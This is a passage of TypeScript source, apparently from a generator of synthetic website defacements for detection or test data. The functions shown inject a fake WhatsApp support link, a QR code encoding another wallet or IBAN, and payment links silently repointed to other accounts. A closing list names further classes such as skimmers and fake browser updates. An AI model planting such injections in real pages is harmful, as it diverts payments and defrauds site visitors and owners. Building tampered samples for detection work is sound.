  return out.length > 0 ? { splices: out } : splices(lineBeside(page, [page.ids.phone.intl], `${esc(page.site.words.email)}: ${esc(next)}`, slotAt(page.spots, "bottom")))
})

/** The social links of the contact block as elements, in document order. */
const socialAnchors = (page: Page): Array<El> => {
  const hrefs = new Set(page.ids.social.map((s) => s.href).filter((h): h is string => h !== null))
  return page.spots.elements.filter((e) => e.name === "a" && usable(page, e) && e.closeTag !== null && hrefs.has(e.attribs.href ?? ""))
}

/** Support impersonation: a "WhatsApp support" entry slipped into the follow-us links, with a number in the site's own format that is not the site's. */
const whatsappEntryOtherNumber = fresh32("'WhatsApp' or 'WhatsApp support' entry slipped into the site's follow-us links, on a number written in the site's own national format that is not the site's", (page, rng) => {
  const np = swapPhone(page.site.locale, page.ids.phone, rng)
  const sup: T<string> = { en: "Support", fr: "Assistance", de: "Support", es: "Soporte", nl: "Klantenservice", pt: "Suporte", it: "Assistenza" }
  const label = pick(rng, ["WhatsApp", `WhatsApp ${say(page, sup)}`, `WhatsApp ${np.national}`])
  const link = `<a href="https://wa.me/${np.tel.slice(1)}${chance(rng, 0.3) ? `?text=${encodeURIComponent(pick(rng, ["Hello", "Hi", "Order"]))}` : ""}">${esc(label)}</a>`
  const anchors = socialAnchors(page)
  if (anchors.length > 0) return splices(insert(anchors[anchors.length - 1]!.closeTag!.end, `${pick(rng, [" · ", " | ", ", "])}${link}`))
  return splices(lineBeside(page, [page.ids.email, page.ids.phone.intl], link, slotAt(page.spots, "bottom")))
})

/** The payment or donation target as the QR payload for the intruder: a wallet, IBAN (EPC) or handle that is not the site's. */
const qrPayload = (rng: Rng, page: Page): string => {
  const w = page.ids.wallet
  if (w !== null) {
    const nw = makeWallet(rng, w.coin)
    return `${w.coin === "BTC" ? "bitcoin" : w.coin === "ETH" ? "ethereum" : w.coin === "XMR" ? "monero" : "tron"}:${nw.address}`
  }
  const b = page.ids.bank
  if (b !== null && b.kind === "iban") {
    const nb = makeBank(rng, page.site.locale)
    const iban = nb !== null && nb.kind === "iban" ? nb.value.replace(/\s+/g, "") : b.value.replace(/\s+/g, "").slice(0, -4) + digits(rng, 4)
    return `BCD\n002\n1\nSCT\n\n${brandName(page)}\n${iban}`
  }
  if (page.ids.pay !== null && page.ids.pay.href !== null) return `${page.ids.pay.href.replace(/[^/]+$/, "")}${bare(page)}${pick(rng, ["pay", "donate", "fund", digits(rng, 2)])}`
  return `bitcoin:${makeWallet(rng, "BTC").address}`
}
const scanWords: T<ReadonlyArray<string>> = {
  en: ["Scan to donate", "Scan to pay"], fr: ["Scannez pour faire un don", "Scannez pour payer"], de: ["Zum Spenden scannen", "Zum Bezahlen scannen"],
  es: ["Escanea para donar", "Escanea para pagar"], nl: ["Scan om te doneren", "Scan om te betalen"], pt: ["Escaneie para doar", "Escaneie para pagar"], it: ["Scansiona per donare", "Scansiona per pagare"]
}

/** Payment diversion through a picture: a QR code (from a QR API or the intruder's host) encoding another wallet, IBAN or payment handle, placed beside the site's payment line. */
const qrCodeOtherAccount = fresh32("QR code picture beside the site's payment, donation or bank line that encodes another wallet, IBAN (EPC payload) or payment handle (from a QR API, or an opaque image on another host)", (page, rng) => {
  const data = encodeURIComponent(qrPayload(rng, page))
  const size = pick(rng, [120, 150, 180, 200])
  const src = pick(rng, [
    `https://api.qrserver.com/v1/create-qr-code/?size=${size}x${size}&data=${data}`,
    `https://quickchart.io/qr?text=${data}&size=${size}`,
    `https://chart.googleapis.com/chart?cht=qr&chs=${size}x${size}&chl=${data}`,
    `https://${evilHost(rng, page)}/qr/${alnum(rng, 8)}.png`
  ])
  const caption = pick(rng, siteOr(rng, page, scanWords))
  const html = `<img src="${esc(src)}" width="${size}" height="${size}" alt="QR"> ${esc(caption)}`
  const needles = [page.ids.wallet?.address ?? "", page.ids.bank?.value ?? "", page.ids.pay?.shown ?? "", page.ids.email]
  return splices(lineBeside(page, needles, html, slotAt(page.spots, "bottom")))
})

/** The payment link behind unchanged text: the site's PayPal/Venmo/Cash App/Revolut link sent to another account (its shown handle kept), or a "pay online" link to another account added after the bank line. */
const payLinkBehindText = fresh32("site's payment-handle link (PayPal.me, Venmo, Cash App, Revolut) sent to another account while the handle shown stays the same, or a 'pay with PayPal' link to another account added beside the bank line", (page, rng) => {
  const pay = page.ids.pay
  if (pay !== null && pay.href !== null) {
    const name = (pay.href.split("/").pop() ?? "").replace(/^\$/, "")
    const nn = `${name}${pick(rng, ["Pay", "Payments", "Official", "Donations", "Help", digits(rng, 2), "_"])}`
    let next = pay.href.replace(new RegExp(`${name.replace(/[$]/g, "\\$")}$`), nn)
    if (chance(rng, 0.3)) next = next.replace(/^https:\/\/(www\.)?([^/]+)/, (_, __, h: string) => `https://${hostTwist(rng, h)}`)
    const attrs = occurrences(page, pay.href).filter((r) => !inText(page, r))
    if (attrs.length > 0 && next !== pay.href) return splices(...attrs.map((r) => replace(r, esc(next))))
  }
  const handle = `${bare(page).charAt(0).toUpperCase()}${bare(page).slice(1)}${pick(rng, ["Pay", "Payments", "Donate", "Fund"])}`
  const html = `${esc(page.site.words.payWith)} <a href="https://www.paypal.me/${handle}">PayPal</a>`
  return splices(lineBeside(page, [page.ids.bank?.value ?? "", page.ids.wallet?.address ?? "", page.ids.email], html, slotAt(page.spots, "bottom")))
})

/** Every fresh32 defacement class, in a fixed order. */
export const fresh32Defacements: ReadonlyArray<ChangeClass> = [
  tagManagerLookalike, containerNotTheSites, webSocketSkimmer, svgOnloadLoader, encodedAddressLoader, compromisedPublicCdn, pushSpamEnrolment,
  mobileOnlyRedirect, searchVisitorRedirect, backButtonHijack, firstClickPopunder, footerMetaRefresh, hiddenTdsIframe, fullWindowIframeCopy,
  clipboardCaptcha, fakeBrowserUpdate, fakeConsentBar,
  hiddenSpamLinks, metaTagSpam,
  outboundThroughRedirector, lookalikeStorefront, buyButtonToFakeCheckout, scamEntryInLatest, pictureBecomesLink, logoAndIconFromLookalikeCdn, fontsFromLookalike, embedRepointed, appLinkToApk,
  cardFieldsInForm, invisibleAutofillFields, mailboxPasswordField, newsletterToLookalikeProvider,
  nationalNumberOnly, emailToSiblingDomain, whatsappEntryOtherNumber, qrCodeOtherAccount, payLinkBehindText
]
